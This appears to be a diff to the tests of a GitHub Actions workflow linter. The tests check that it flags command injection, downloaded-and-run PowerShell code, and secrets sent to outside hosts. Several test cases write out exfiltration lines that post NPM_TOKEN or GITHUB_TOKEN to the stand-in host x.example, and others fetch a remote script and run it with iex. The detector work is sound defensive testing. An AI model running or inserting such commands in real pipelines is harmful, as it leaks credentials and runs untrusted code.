@@ -118,7 +118,8 @@ describe('workflows', () => {
       'a secret encoded for a header',
       '- run: curl -H "x $(echo "$K" | base64)" https://x.example\n  env:\n    K: ${{ secrets.KEY }}',
       { on: 'push' },
-      [],
+      // Whose key it is nobody can say: told below every bar.
+      ['secret-sent-away suggestion'],
     ],
     ['as a variable', '- run: echo "$T"\n  env:\n    T: ${{ github.event.issue.title }}', { on: 'issues' }, []],
     ['a number', '- run: echo ${{ github.event.issue.number }}', { on: 'issues' }, []],
@@ -287,6 +288,46 @@ describe('workflows', () => {
     ['an ordinary one', workflow('- run: make', { on: 'push' }), true],
   ])('%s', (_, text, judged) => {
     expect(judgeWorkflow(text).unread.length === 0).toBe(judged);
+  });
+
+  test.each<readonly [string, string, string, string, readonly string[]]>([
+    ['eval', 'bash', 'issue_comment', 'eval "$BODY"', ['command-injection critical']],
+    ['eval of a copy', 'bash', 'issue_comment', 'x="$BODY"; eval "$x"', ['command-injection critical']],
+    ['a pull request of a fork', 'bash', 'pull_request', 'bash -c "echo $BODY"', ['command-injection warning']],
+    ['PowerShell', 'pwsh', 'issue_comment', 'Invoke-Expression $env:BODY', ['code-injection critical']],
+    ['PowerShell, a copy', 'pwsh', 'issue_comment', '$a = $env:BODY.Substring(5); iex $a', ['code-injection critical']],
+    ['PowerShell of a fork', 'powershell', 'pull_request', 'iex "git log $env:BODY"', ['code-injection warning']],
+    ['a value', 'bash', 'issue_comment', 'echo "$BODY"; sh -c \'echo "$1"\' sh "$BODY"', []],
+    ['a value of PowerShell', 'pwsh', 'issue_comment', 'Write-Host $env:BODY; & git log $env:BODY', []],
+  ])('what a stranger wrote and a variable holds: %s', async (_, shell, on, run, expected) => {
+    const step = `- shell: ${shell}\n  env:\n    BODY: \${{ github.event.comment.body || github.head_ref }}\n  run: |\n    ${run}`;
+    expect(await found(workflow(step, { on }))).toEqual(expected);
+  });
+
+  test.each<readonly [string, string, readonly string[]]>([
+    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; ./a.ps1', ['downloaded-code suggestion']],
+    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile ./a.ps1; & .\\a.ps1', ['downloaded-code suggestion']],
+    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; pwsh -File a.ps1', ['downloaded-code suggestion']],
+    ['pwsh', '$s = irm https://x.example/a.ps1; iex $s', ['downloaded-code critical']],
+    [
+      'pwsh',
+      '$s = iwr https://x.example/a; $t = $s.Content; & ([scriptblock]::Create($t))',
+      ['downloaded-code critical'],
+    ],
+    ['pwsh', 'iwr https://x.example/a.json -OutFile a.json; Get-Content a.json', []],
+    ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; git add a.ps1', []],
+    // Keys of one service for another.
+    ['bash', 'curl -d "$NPM_TOKEN" https://x.example/a', ['secret-sent-away warning']],
+    ['bash', 'echo "$NPM_TOKEN" | curl -d @- https://x.example/a', ['secret-sent-away warning']],
+    ['bash', 'wget "https://x.example/?a=${{ secrets.GITHUB_TOKEN }}"', ['secret-sent-away warning']],
+    ['pwsh', 'irm https://x.example/a -Method Post -Body $env:NPM_TOKEN', ['secret-sent-away warning']],
+    ['bash', 'curl -H "Authorization: Bearer $NPM_TOKEN" https://registry.npmjs.org/a', []],
+    ['bash', 'curl -H "Authorization: Bearer ${{ github.token }}" https://api.github.com/a', []],
+    ['bash', 'curl -d "$NPM_TOKEN" http://localhost:4873/a', []],
+  ])('%s: %s', async (shell, run, expected) => {
+    const step = `- shell: ${shell}\n  env:\n    NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n  run: |\n    ${run}`;
+    const { hazards } = judgeWorkflow(workflow(step, { on: 'push' }));
+    expect(hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`)).toEqual(expected);
   });
 
   test('tells what PowerShell loads and runs', async () => {
